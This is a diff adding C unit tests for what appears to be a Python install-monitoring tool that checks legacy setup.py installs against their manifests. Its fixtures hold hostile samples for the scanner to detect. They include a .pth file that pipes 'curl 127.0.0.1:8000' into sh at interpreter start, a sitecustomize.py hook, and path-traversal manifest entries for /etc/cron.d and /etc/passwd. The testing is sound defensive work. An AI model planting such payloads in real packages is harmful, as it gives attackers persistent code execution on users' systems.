@@ -555,6 +555,275 @@ static void test_clobber(void)
 	}
 }
 
+/* A legacy `setup.py install` as pip 23.0 runs it (no `wheel`): the files,
+ * then <egg>/ with setuptools' metadata, then pip's installed-files.txt
+ * listing every file relative to <egg>/ (and the egg-info's own files,
+ * never itself).  pkginfo: write a PKG-INFO naming the project; extra:
+ * more lines for installed-files.txt. */
+static void legacy_install(const char *base, const char *egg, const char *pkginfo,
+			   const struct tfile *files, size_t n, const char *extra)
+{
+	static const char *const meta[] = { "SOURCES.txt", "top_level.txt", "dependency_links.txt" };
+	char *list = xstrdup("");
+
+	for (size_t i = 0; i < n; i++) {
+		autofree char *p = xasprintf("%s/%s/%s", base, SP, files[i].path);
+		char *t = xasprintf("%s../%s\n", list, files[i].path);
+
+		writef(p, files[i].content, files[i].mode);
+		free(list);
+		list = t;
+	}
+	for (size_t i = 0; i < ARRAY_SIZE(meta) + 1; i++) {
+		const char *name = i < ARRAY_SIZE(meta) ? meta[i] : "PKG-INFO";
+		autofree char *p = xasprintf("%s/%s/%s/%s", base, SP, egg, name);
+		char *t;
+
+		if (i == ARRAY_SIZE(meta) && !pkginfo)
+			break;
+		writef(p, i == ARRAY_SIZE(meta) ? pkginfo : "x\n", 0);
+		t = xasprintf("%s%s\n", list, name);
+		free(list);
+		list = t;
+	}
+	{
+		autofree char *p = xasprintf("%s/%s/%s/installed-files.txt", base, SP, egg);
+		autofree char *all = xasprintf("%s%s", list, extra ? extra : "");
+
+		writef(p, all, 0);
+	}
+	free(list);
+}
+
+static const struct tfile legacy1[] = {
+	{ "legacy_demo.py", "def hello():\n    return 'hi'\n", 0 },
+	{ "legacy_pkg/__init__.py", "", 0 },
+	{ "legacy_pkg/__pycache__/__init__.cpython-311.pyc", "pyc\n", 0 },
+	{ "../../../bin/legacy-tool", "#!/venv/bin/python\nimport legacy_demo\n", 0755 },
+};
+
+static const struct stage_dist *find_dist_named(const struct stage *s, const char *name)
+{
+	const struct stage_result *r = stage_result(s);
+
+	for (size_t i = 0; i < r->n_dists; i++)
+		if (r->dists[i].name && !strcmp(r->dists[i].name, name))
+			return &r->dists[i];
+	return NULL;
+}
+
+/* (7) legacy `setup.py install`: the egg-info's installed-files.txt is the
+ * manifest of what this run installed; every other rule still holds. */
+static void test_legacy(void)
+{
+	/* A clean one: no violations, in the distribution list, committed. */
+	{
+		struct stage *s;
+		struct seen seen;
+		autofree char *want = NULL, *got = NULL;
+		const struct stage_dist *d;
+		char err[512];
+		int n;
+
+		fresh_venv();
+		s = stage_up();
+		legacy_install(merged, "legacy_demo-1.0-py3.11.egg-info",
+			       "Metadata-Version: 2.1\nName: legacy-demo\nSummary: x\n\nVersion: 9\nName: nope\n",
+			       legacy1, ARRAY_SIZE(legacy1), NULL);
+		{
+			/* a .pyc compiled later for a listed source, not listed itself */
+			autofree char *pyc = xasprintf("%s/%s/__pycache__/legacy_demo.cpython-311.pyc", merged, SP);
+
+			writef(pyc, "pyc\n", 0);
+		}
+		want = snapshot(merged);
+		stage_down();
+		n = scan_check(s, &seen, NULL);
+		CHECK(n == 0, "a legacy install has no violations (got %d)", n);
+		if (n)
+			dump_seen(&seen);
+		d = find_dist_named(s, "legacy-demo");
+		CHECK(d != NULL, "the legacy install is in the distribution list, named from PKG-INFO");
+		CHECK(find_dist_named(s, "nope") == NULL, "PKG-INFO's description is not read as headers");
+		if (d) {
+			CHECK_STR_EQ(d->version, "1.0");
+			CHECK(d->installed && !d->removed && d->legacy, "installed, legacy");
+			CHECK_STR_EQ(d->dist_info, SP "/legacy_demo-1.0-py3.11.egg-info");
+			/* 4 files + 1 pyc + PKG-INFO, SOURCES, top_level, dependency_links, installed-files */
+			CHECK_INT_EQ(d->n_added, 10);
+		}
+		{
+			char *text = NULL;
+			size_t tlen = 0;
+			FILE *f = open_memstream(&text, &tlen);
+
+			stage_report_text(s, f, NULL);
+			fclose(f);
+			CHECK(strstr(text, "legacy-demo 1.0 (installed, legacy setup.py install: files listed, no hashes): 10 added") != NULL,
+			      "the report says it is a legacy install:\n%s", text);
+			free(text);
+		}
+		CHECK(stage_commit(s, err, sizeof(err)) == 0, "commit: %s", err);
+		stage_discard(s);
+		got = snapshot(venv);
+		CHECK(strcmp(want, got) == 0, "after commit the venv equals the merged view");
+	}
+	/* One whose manifest lists what it planted: a .pth that runs code, a
+	 * sitecustomize.py, another distribution's file; plus a file it does
+	 * not list, and a line that leaves the target. */
+	{
+		static const struct tfile evil[] = {
+			{ "evil_legacy.py", "x = 1\n", 0 },
+			{ "evil.pth", "import os; os.system('curl 127.0.0.1:8000 | sh')\n", 0 },
+			{ "sitecustomize.py", "import evil_legacy\n", 0 },
+			{ "alpha/core.py", "def f():\n    steal()\n", 0 },
+		};
+		struct stage *s;
+		struct seen seen;
+		autofree char *before = NULL, *after = NULL;
+		const struct stage_dist *d;
+		int n;
+
+		fresh_venv();
+		before = snapshot(venv);
+		s = stage_up();
+		legacy_install(merged, "evil_legacy-2.0-py3.11.egg-info", NULL, evil, ARRAY_SIZE(evil),
+			       "../../../../../../../../etc/cron.d/evil\n/etc/passwd\n");
+		{
+			autofree char *p = xasprintf("%s/%s/unlisted_evil.py", merged, SP);
+
+			writef(p, "print('not listed')\n", 0);
+		}
+		stage_down();
+		n = scan_check(s, &seen, NULL);
+		dump_seen(&seen);
+		CHECK(n == 4, "4 violations: evil.pth, sitecustomize.py, alpha/core.py, unlisted_evil.py (got %d)", n);
+		CHECK(seen_has(&seen, "evil.pth: .pth file (in installed-files.txt of evil_legacy 2.0) runs code at every interpreter start"),
+		      "a listed .pth that runs code is still reported");
+		CHECK(seen_has(&seen, "curl 127.0.0.1:8000"), "with its code");
+		CHECK(seen_has(&seen, "sitecustomize.py: sitecustomize.py (in installed-files.txt of evil_legacy 2.0) runs at every"),
+		      "a listed sitecustomize.py is still reported");
+		CHECK(seen_has(&seen, "alpha/core.py: changes a file owned by distribution alpha 1.0 (its RECORD)"),
+		      "listing another distribution's file does not make it yours");
+		CHECK(seen_has(&seen, "unlisted_evil.py: not in any RECORD"), "a file the manifest does not list");
+		d = find_dist_named(s, "evil_legacy");
+		CHECK(d != NULL && d->legacy && d->installed && !strcmp(d->version, "2.0"),
+		      "named from the egg-info directory when there is no PKG-INFO");
+		{
+			const struct stage_result *r = stage_result(s);
+			uint32_t w = 0;
+
+			for (size_t i = 0; i < r->n_files; i++)
+				if (!strcmp(r->files[i].path, SP "/evil.pth"))
+					w = r->files[i].writer;
+			CHECK_INT_EQ(w, 4242);
+		}
+		stage_discard(s);
+		after = snapshot(venv);
+		CHECK(strcmp(before, after) == 0, "discard leaves the venv as it was");
+	}
+	/* Through the engine (stage_check_engine): an undeclared file lands
+	 * on the build that wrote it, not on pip. */
+	{
+		static const char *const pip_argv[] = { "/venv/bin/python3", "/venv/bin/pip", "install", "evil-demo", NULL };
+		static const char *const setup_argv[] = {
+			"/venv/bin/python3", "-u", "-c", "exec(compile(open('setup.py').read(), 'setup.py', 'exec'))",
+			"install", "--record", "/tmp/pip-record-q/install-record.txt", NULL,
+		};
+		static const char *const srcdir = "/tmp/pip-install-q/evil-demo_0123456789abcdef0123456789abcdef";
+		struct trace_event ev = { .nr = -1, .mode = -1, .protocol = -1, .port = -1, .target_pid = -1,
+					  .exit_code = -1, .comm = "python3" };
+		struct engine *e = engine_new(NULL, false);
+		autofree char *planted = xasprintf("%s/%s/zz_planted.py", venv, SP);
+		autofree char *mpath = xasprintf("%s/%s/zz_planted.py", merged, SP);
+		const struct violation_record *v = NULL;
+		struct stage *s;
+		int n;
+
+		fresh_venv();
+		s = stage_up();
+		legacy_install(merged, "evil_demo-1.0.egg-info", "Name: evil-demo\nVersion: 1.0\n", legacy1, 1, NULL);
+		writef(mpath, "print('planted')\n", 0);
+		stage_down();
+		engine_set_command(e, pip_argv + 1);
+		ev.kind = "fork";
+		ev.hpid = 500;
+		ev.child_hpid = ev.child_htid = 501;
+		ev.child_pid = 2;
+		engine_event(e, &ev);
+		ev = (struct trace_event){ .kind = "exec", .nr = -1, .mode = -1, .protocol = -1, .port = -1,
+					   .target_pid = -1, .exit_code = -1, .hpid = 501, .pid = 2,
+					   .path = "/venv/bin/pip", .abs = "/venv/bin/pip", .argv = pip_argv,
+					   .cwd = "/work", .comm = "pip" };
+		engine_event(e, &ev);
+		ev.kind = "fork";
+		ev.child_hpid = ev.child_htid = 502;
+		ev.child_pid = 3;
+		engine_event(e, &ev);
+		ev.kind = "exec";
+		ev.hpid = 502;
+		ev.pid = 3;
+		ev.path = ev.abs = "/venv/bin/python3";
+		ev.argv = setup_argv;
+		ev.cwd = srcdir;
+		engine_event(e, &ev);
+		ev.kind = "open";
+		ev.argv = NULL;
+		ev.path = ev.abs = ev.file = planted;
+		ev.flags = "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC";
+		ev.has_ret = true;
+		ev.ret = 3;
+		engine_event(e, &ev);
+		{
+			char err[512];
+
+			CHECK(stage_scan(s, err, sizeof(err)) == 0, "scan: %s", err);
+		}
+		n = stage_check_engine(s, e, NULL);
+		CHECK_INT_EQ(n, 1);
+		for (size_t i = 0; i < engine_n_violations(e); i++)
+			if (!strcmp(engine_violation(e, i)->rule, "undeclared-file"))
+				v = engine_violation(e, i);
+		CHECK(v != NULL, "the engine has the staging violation");
+		if (v) {
+			CHECK(strstr(v->evidence, "zz_planted.py: not in any RECORD") != NULL, "%s", v->evidence);
+			CHECK_INT_EQ(v->hpid, 502);
+			CHECK_STR_EQ(v->package, "evil-demo");
+			CHECK_STR_EQ(v->hook, "setup.py install");
+		}
+		stage_discard(s);
+		engine_free(e);
+	}
+	/* Uninstalling a legacy install: its listed files and its egg-info go. */
+	{
+		struct stage *s;
+		struct seen seen;
+		const struct stage_dist *d;
+		autofree char *egg = xasprintf("%s/%s/legacy_demo-1.0-py3.11.egg-info", merged, SP);
+		int n;
+
+		fresh_venv();
+		legacy_install(venv, "legacy_demo-1.0-py3.11.egg-info", "Name: legacy-demo\nVersion: 1.0\n",
+			       legacy1, ARRAY_SIZE(legacy1), NULL);
+		s = stage_up();
+		for (size_t i = 0; i < ARRAY_SIZE(legacy1); i++) {
+			autofree char *p = xasprintf("%s/%s/%s", merged, SP, legacy1[i].path);
+
+			unlink(p);
+		}
+		rmtree_at(AT_FDCWD, egg);
+		stage_down();
+		n = scan_check(s, &seen, NULL);
+		CHECK(n == 0, "uninstalling a legacy install has no violations (got %d)", n);
+		if (n)
+			dump_seen(&seen);
+		d = find_dist_named(s, "legacy-demo");
+		CHECK(d != NULL && d->removed && !d->installed && d->n_removed == 9,
+		      "listed as removed with its 9 files (%zu)", d ? d->n_removed : 0);
+		stage_discard(s);
+	}
+}
+
 /* (5) a commit stopped after each possible number of operations, rolled
  * forward (equals the uninterrupted result) or back (equals the old venv);
  * and a failing commit that rolls itself back. */
@@ -769,6 +1038,7 @@ int main(void)
 	test_recover_uncommitted();
 	test_recover_refuses();
 	test_dry_run();
+	test_legacy();
 	umount2(merged, MNT_DETACH);
 	rmtree_at(AT_FDCWD, root);
 	return unit_summary("test_stage");
